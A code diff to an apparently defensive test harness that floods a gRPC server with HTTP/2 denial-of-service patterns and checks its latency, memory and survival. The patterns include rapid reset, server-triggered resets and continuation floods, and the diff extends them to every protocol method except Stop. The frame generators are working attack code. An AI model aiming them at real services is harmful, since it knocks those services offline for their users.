@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import contextlib
 import dataclasses
+import functools
 import os
 import pathlib
+import re
+import select
 import socket
 import ssl
 import struct
@@ -18,7 +21,7 @@ from typing import Any, Callable, cast
 
 import grpc
 
-from programs import PATIENCE_S, Result, Server, emulated_rig, own_channel, scratch
+from programs import PATIENCE_S, ROOT, Result, Server, emulated_rig, own_channel, scratch
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
@@ -26,6 +29,7 @@ END_STREAM, END_HEADERS = 1, 4
 STREAM = "/touchstone.v1.Source/StreamDataset"
 UPLOAD, REFLECTION = "/touchstone.v1.Sessions/CreateSession", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 STOP, STATE = "/touchstone.v1.Control/Stop", "/touchstone.v1.Control/GetState"
+EVERY_OTHER = "every method of the protocol but Stop"
 # What must hold beside a flood: how long a new client waits, and the server's memory and end.
 MAX_S = {STATE: 1.0, STOP: 0.2}
 # drain_s, and a moment to end: gRPC waits for it where a client does not answer its last ping.
@@ -58,23 +62,39 @@ def head_of(method: str) -> bytes:
     return b"".join(_literal(name, value) for name, value in fields)
 
 
+@functools.cache
+def heads_of(method: str) -> tuple[bytes, ...]:
+    """Of a method, or of EVERY_OTHER, in turn."""
+    if method != EVERY_OTHER:
+        return (head_of(method),)
+    methods = [f"/touchstone.v1.{service.split(' ')[0]}/{call}" for proto in sorted((ROOT / "proto/touchstone/v1").glob("*.proto"))
+               for service in re.split(r"^service ", proto.read_text(), flags=re.MULTILINE)[1:]
+               for call in re.findall(r"^  rpc (\w+)\(", service, re.MULTILINE)]
+    return tuple(head_of(each) for each in methods if each != STOP)
+
+
+def _begun(streams: range, method: str) -> Iterator[tuple[int, bytes]]:
+    """Each stream, and the frame that begins a call on it."""
+    heads = heads_of(method)
+    for stream in streams:
+        yield stream, frame(HEADERS, END_HEADERS, stream, heads[stream // 2 % len(heads)])
+
+
 def _reset(stream: int) -> bytes:
     return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
 
 
 def rapid_reset(method: str) -> Iterator[bytes]:
     """Calls that are begun and reset at once (CVE-2023-44487)."""
-    head = head_of(method)
     for first in range(1, 2**31, 2 * FRAMES_AT_ONCE):
-        yield b"".join(frame(HEADERS, END_HEADERS, stream, head) + _reset(stream) for stream in range(first, first + 2 * FRAMES_AT_ONCE, 2))
+        yield b"".join(begun + _reset(stream) for stream, begun in _begun(range(first, first + 2 * FRAMES_AT_ONCE, 2), method))
 
 
 def made_you_reset(method: str) -> Iterator[bytes]:
     """Calls that the server resets, since a window grows by nothing (CVE-2025-8671)."""
-    head = head_of(method)
     for first in range(1, 2**31, 2 * FRAMES_AT_ONCE):
-        yield b"".join(frame(HEADERS, END_HEADERS, stream, head) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
-                       for stream in range(first, first + 2 * FRAMES_AT_ONCE, 2))
+        yield b"".join(begun + frame(WINDOW_UPDATE, 0, stream, bytes(4))
+                       for stream, begun in _begun(range(first, first + 2 * FRAMES_AT_ONCE, 2), method))
 
 
 def continuation(method: str) -> Iterator[bytes]:
@@ -118,7 +138,7 @@ def empty_data(method: str) -> Iterator[bytes]:
 
 def open_calls(method: str) -> Iterator[bytes]:
     """As many calls as a connection may have, without a first message, for good."""
-    yield b"".join(frame(HEADERS, END_HEADERS, stream, head_of(method)) for stream in range(1, 257, 2))
+    yield b"".join(begun for _, begun in _begun(range(1, 257, 2), method))
     while True:
         time.sleep(0.2)
         yield b""
@@ -127,8 +147,7 @@ def open_calls(method: str) -> Iterator[bytes]:
 def calls(method: str) -> Iterator[bytes]:
     """Whole calls with an empty message, one after the other, whose answers nobody waits for."""
     for first in range(1, 2**31, 64):
-        yield b"".join(frame(HEADERS, END_HEADERS, stream, head_of(method)) + frame(DATA, END_STREAM, stream, bytes(5))
-                       for stream in range(first, first + 64, 2))
+        yield b"".join(begun + frame(DATA, END_STREAM, stream, bytes(5)) for stream, begun in _begun(range(first, first + 64, 2), method))
 
 
 @dataclasses.dataclass(frozen=True)
@@ -145,6 +164,7 @@ FLOODS = (
     Flood("rapid resets of uploads", rapid_reset, UPLOAD),
     Flood("rapid resets of states", rapid_reset, STATE),
     Flood("rapid resets of reflection", rapid_reset, REFLECTION),
+    Flood("rapid resets of every other method", rapid_reset, EVERY_OTHER),
     Flood("resets by the server", made_you_reset),
     Flood("heads without an end", continuation),
     Flood("heads of empty frames", empty_continuation),
@@ -160,7 +180,9 @@ FLOODS = (
     Flood("watched health without a message", open_calls, "/grpc.health.v1.Health/Watch"),
     Flood("states without a message", open_calls, STATE),
     Flood("streams without a message", open_calls, STREAM),
+    Flood("every other method without a message", open_calls, EVERY_OTHER),
     Flood("whole calls", calls, STATE),
+    Flood("whole calls of every other method", calls, EVERY_OTHER),
     Flood("whole calls of health", calls),
 )
 
@@ -181,18 +203,36 @@ def _connect(host: str, port: int, tls: bool) -> socket.socket:
     return context.wrap_socket(connection)
 
 
+def _send_and_swallow(connection: socket.socket, data: bytes, reads: bool) -> None:
+    """As sendall() beside _swallow() of a connection with TLS, which two threads may not use at once."""
+    view = memoryview(data)
+    while view:
+        with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
+            view = view[connection.send(view):]
+        with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
+            while reads:
+                if not connection.recv(1 << 16):
+                    raise ConnectionResetError
+        if view:
+            select.select([connection] if reads else [], [connection], [], 0.1)
+
+
 def _send(flood: Flood, host: str, port: int, tls: bool, until: float) -> None:
     """One connection at a time; a new one when the server closes it."""
     while time.monotonic() < until:
         try:
             with _connect(host, port, tls) as connection:
-                if flood.reads:
+                send = connection.sendall
+                if tls:
+                    connection.setblocking(False)
+                    send = functools.partial(_send_and_swallow, connection, reads=flood.reads)
+                elif flood.reads:
                     threading.Thread(target=_swallow, args=(connection,), daemon=True).start()
-                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
+                send(PREFACE + frame(SETTINGS, 0, 0))
                 for piece in flood.frames(flood.method):
                     if time.monotonic() >= until:
                         return
-                    connection.sendall(piece)
+                    send(piece)
         except OSError:
             time.sleep(0.01)
 
@@ -277,6 +317,8 @@ def _beside(flood: Flood, source: str, attacked: Attacked, connections: int, sec
                 waits.append(s)
                 result.expect(not wrong, f"{name}: {method}: {wrong}")
             rss = max(rss, server.resident_bytes() >> 20)
+        # 0: it came to its end a moment before this.
+        result.expect(flooding.poll() in (None, 0), f"{name}: the flood itself ended with {flooding.poll()}")
         if not server.alive():
             result.failures.append(f"{name}: the server ended with {server.process.returncode}")
             return
